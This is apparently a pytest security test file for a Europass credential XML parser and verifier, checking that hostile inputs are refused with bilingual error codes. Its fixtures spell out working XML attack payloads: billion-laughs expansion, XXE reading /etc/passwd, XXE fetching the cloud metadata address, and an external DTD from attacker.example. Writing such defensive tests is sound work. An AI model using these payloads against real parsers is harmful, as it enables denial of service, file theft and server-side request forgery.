"""Hostile XML is refused quickly with a clear message, never parsed into trouble, never an exception."""

from __future__ import annotations

import pytest

from europass.credentials.errors import CredentialError
from europass.credentials.xmlsafe import parse_xml
from europass.sealing.report import CheckStatus
from europass.sealing.trust import TrustStore
from europass.sealing.verify import verify

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<europassCredential xmlns="http://data.europa.eu/snb">&lol4;</europassCredential>"""
XXE_FILE = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<europassCredential xmlns="http://data.europa.eu/snb">&xxe;</europassCredential>"""
XXE_HTTP = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<europassCredential xmlns="http://data.europa.eu/snb">&xxe;</europassCredential>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE europassCredential SYSTEM "http://attacker.example/evil.dtd">
<europassCredential xmlns="http://data.europa.eu/snb"/>"""
DEEP = b"<a>" * 10_000 + b"</a>" * 10_000
HUGE = (
    b"<europassCredential xmlns='http://data.europa.eu/snb'>"
    + b"<x>"
    + b"A" * (50 * 1024 * 1024)
    + b"</x></europassCredential>"
)

CASES = [
    ("billion laughs", BILLION_LAUGHS, "xml_dtd_forbidden"),
    ("XXE reading a file", XXE_FILE, "xml_dtd_forbidden"),
    ("XXE over the network", XXE_HTTP, "xml_dtd_forbidden"),
    ("external DTD", EXTERNAL_DTD, "xml_dtd_forbidden"),
    ("10,000-deep nesting", DEEP, "xml_too_deep"),
    ("50 MB file", HUGE, "xml_too_large"),
    ("non-XML bytes", b"%PDF-1.7\n\x00\x01binary", "xml_malformed"),
    ("truncated XML", b"<europassCredential xmlns='http://data.europa.eu/snb'><title>", "xml_malformed"),
    ("empty input", b"   ", "xml_malformed"),
]


@pytest.mark.parametrize(("name", "data", "code"), CASES, ids=[c[0] for c in CASES])
def test_hostile_xml_is_refused_quickly_with_its_code(name: str, data: bytes, code: str) -> None:
    with pytest.raises(CredentialError) as refused:
        parse_xml(data)
    assert refused.value.code == code, refused.value
    assert refused.value.message("en") and refused.value.message("fr")
    assert refused.value.message("fr") != refused.value.message("en")
    assert "root:" not in str(refused.value)


@pytest.mark.parametrize(("name", "data", "code"), CASES, ids=[c[0] for c in CASES])
def test_hostile_xml_gives_a_failed_check_and_no_exception_from_the_verifier(
    name: str, data: bytes, code: str
) -> None:
    report = verify(data, TrustStore())
    assert not report.valid
    assert report.check("well_formed").status == CheckStatus.FAILED  # type: ignore[union-attr]


def test_a_document_that_is_xml_but_not_a_credential_is_refused() -> None:
    report = verify(b"<html><body>hello</body></html>", TrustStore())
    assert report.check("well_formed").status == CheckStatus.FAILED  # type: ignore[union-attr]
    assert "not a Europass credential" in report.check("well_formed").message()  # type: ignore[union-attr]
